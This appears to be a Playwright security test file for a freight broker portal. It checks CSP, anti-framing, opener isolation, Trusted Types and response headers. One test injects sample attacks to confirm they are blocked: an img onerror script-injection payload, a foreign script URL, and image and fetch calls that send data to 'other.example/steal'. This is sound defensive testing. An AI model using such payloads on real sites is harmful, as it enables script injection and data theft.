import { expect, test } from '@fairhaul/testkit/playwright'
import type { Page } from 'playwright/test'

const MARKUP_REFUSED = /This document requires 'TrustedHTML' assignment/

/**
 * An address of each route that no other journey opens: every journey checks the policy on the screens it opens. A
 * route without a screen shows Page Not Found.
 */
const PLACES = [
  ...[
    '/',
    '/carriers/Mine',
    '/carriers/my-carriers',
    '/carriers/connections',
    '/alerts',
    '/loads',
    '/loads/1',
  ],
  ...[
    '/carriers/rate-confirmations',
    '/carriers/rate-confirmations/1',
    '/carriers/rate-confirmations/emails',
  ],
  ...['/company_change_orders/1', '/vehicles/1', '/required-information'],
]

const attempt = (page: Page, code: string): Promise<string> =>
  page.evaluate(`(() => { try { ${code}; return 'done' } catch (error) { return String(error) } })()`)

test('the screens violate no content security policy, and the page cannot be framed', async ({
  page,
  signIn,
  servers,
  policyViolations,
}) => {
  await signIn('dana@northlake.example')
  for (const path of PLACES) {
    await page.goto(`/broker${path}`)
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
  }
  expect(policyViolations).toEqual([])

  // A page of another origin that frames the portal shows a blocked frame.
  await page.goto(`${servers.monitor.url}/health`)
  const refused = page.waitForEvent(
    'requestfailed',
    request => request.url() === `${servers.portalUrl}/broker/`,
  )
  await page.evaluate(
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${servers.portalUrl}/broker/' }))`,
  )
  expect((await refused).failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE')
})

test('a page of another site that opens the portal does not keep its window, and a typed address needs no policy', async ({
  page,
  servers,
}) => {
  const other = new URL('/health', servers.monitor.url)
  other.hostname = 'localhost'
  await page.goto(other.href)
  const popup = page.waitForEvent('popup')
  await page.evaluate(`window.opened = window.open('${servers.portalUrl}/broker/login')`)
  await expect((await popup).getByLabel('Work e-mail')).toBeVisible()
  expect(await page.evaluate('window.opened.closed')).toBe(true)

  const typed = await page.goto('/broker/login')
  expect(typed?.headers()['cross-origin-opener-policy']).toBeUndefined()
})

test('an address typed into a blank window of another site is loaded again, out of its hold', async ({
  page,
  servers,
}) => {
  const other = new URL('/health', servers.monitor.url)
  other.hostname = 'localhost'
  await page.goto(other.href)
  const popup = page.waitForEvent('popup')
  await page.evaluate(`window.opened = window.open('about:blank')`)
  const opened = await popup
  await opened.goto(`${servers.portalUrl}/broker/login`)
  await expect.poll(() => page.evaluate('window.opened.closed')).toBe(true)
  await expect(opened.getByLabel('Work e-mail')).toBeVisible()
})

test('text inserted into the page does not run and makes no markup', async ({ page, policyViolations }) => {
  await page.goto('/broker/login')
  await expect(page.getByLabel('Work e-mail')).toBeFocused()

  expect(await attempt(page, `document.body.innerHTML = '<img src=x onerror="window.ran = 1">'`)).toMatch(
    MARKUP_REFUSED,
  )
  expect(await attempt(page, `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`)).toMatch(
    MARKUP_REFUSED,
  )
  expect(await attempt(page, `document.createElement('script').src = 'https://other.example/x.js'`)).toMatch(
    /TrustedScriptURL/,
  )
  expect(await attempt(page, `trustedTypes.createPolicy('mine', { createHTML: text => text })`)).toMatch(
    /Policy "mine" disallowed/,
  )
  await attempt(page, `document.querySelector('form').setAttribute('onclick', 'window.ran = 1')`)
  await page.getByRole('heading', { name: 'Sign in' }).click()
  await attempt(
    page,
    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'b{}' }))`,
  )
  await attempt(page, `new Image().src = 'https://other.example/steal?all'`)
  await attempt(page, `fetch('https://other.example/steal').catch(() => {})`)
  expect(await page.evaluate('window.ran')).toBeUndefined()
  await expect(page.getByLabel('Work e-mail')).toBeVisible()

  const refused = () => new Set(policyViolations.map(violation => violation.split(' ')[0]))
  await expect
    .poll(refused)
    .toEqual(
      new Set(['connect-src', 'img-src', 'require-trusted-types-for', 'style-src-elem', 'trusted-types']),
    )
  policyViolations.length = 0
})

test('each kind of response has its headers', async ({ request, servers }) => {
  const page = await request.get(`${servers.portalUrl}/broker/carriers/12`)
  expect(page.headers()).toMatchObject({
    'content-encoding': 'br',
    'cache-control': 'no-cache',
    'cross-origin-opener-policy': 'same-origin',
    'referrer-policy': 'same-origin',
    'x-content-type-options': 'nosniff',
  })
  const policy = page.headers()['content-security-policy'] ?? ''
  expect(policy).toMatch(/script-src 'self'( 'sha256-[^']+')+;/)
  expect(policy).toContain("frame-ancestors 'none'")
  expect(policy).toContain("require-trusted-types-for 'script'")
  expect(policy).not.toContain('unsafe')

  const [script = ''] = /\/broker\/assets\/[^"]+\.js/.exec(await page.text()) ?? []
  const file = await request.get(`${servers.portalUrl}${script}`)
  expect(file.headers()).toMatchObject({
    'content-encoding': 'br',
    'cache-control': 'public, max-age=31536000, immutable',
    'content-type': 'text/javascript; charset=utf-8',
    'cross-origin-resource-policy': 'same-origin',
  })
  const again = await request.get(`${servers.portalUrl}${script}`, {
    headers: { 'if-none-match': file.headers()['etag'] ?? '' },
  })
  expect(again.status()).toBe(304)

  const missing = await request.get(`${servers.portalUrl}/broker/assets/gone-00000000.js`)
  expect([missing.status(), missing.headers()['content-type']]).toEqual([404, 'text/plain; charset=utf-8'])

  const call = await request.get(`${servers.portalUrl}/monitor/refresh_jwt`)
  expect(call.status()).toBe(401)
  expect(call.headers()).toMatchObject({
    'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
    'x-content-type-options': 'nosniff',
  })
})
